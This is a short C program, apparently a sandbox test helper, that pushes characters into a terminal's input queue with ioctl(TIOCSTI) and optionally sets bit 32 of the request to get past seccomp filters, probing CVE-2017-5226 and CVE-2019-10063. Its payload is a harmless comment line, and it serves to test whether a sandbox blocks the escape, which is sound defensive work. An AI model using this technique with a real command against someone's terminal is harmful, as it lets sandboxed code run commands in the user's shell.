/* SPDX-License-Identifier: MIT */
/*
 * tiocsti: push characters into the input queue of the terminal on FD
 * (default 0) with ioctl(TIOCSTI), so that the shell that started the sandbox
 * would read and run them once the sandbox ends (CVE-2017-5226). With "high",
 * the request number carries bit 32 as well: the kernel only looks at the low
 * 32 bits, so a seccomp filter comparing all 64 bits misses it (CVE-2019-10063).
 *
 *   tiocsti [low|high] [FD]
 *
 * Exit 0: the characters were injected. 1: blocked. 2: FD is not a terminal.
 */
#include <errno.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/syscall.h>
#include <unistd.h>

int main(int argc, char **argv)
{
	int high = argc > 1 && strcmp(argv[1], "high") == 0;
	int fd = argc > 2 ? atoi(argv[2]) : 0;
	static const char payload[] = "#corral-tiocsti-injected\n";
	unsigned long request = TIOCSTI;

	if (high)
		request |= 1UL << 32;
	if (!isatty(fd)) {
		printf("NOTTY: fd %d is not a terminal; nothing to attack\n", fd);
		return 2;
	}
	for (const char *p = payload; *p; p++) {
		if (syscall(SYS_ioctl, fd, request, p) < 0) {
			printf("BLOCKED: ioctl(%d, %#lx): %s\n", fd, request, strerror(errno));
			return 1;
		}
	}
	printf("SUCCEEDED: injected %zu characters with request %#lx\n", sizeof payload - 1, request);
	return 0;
}
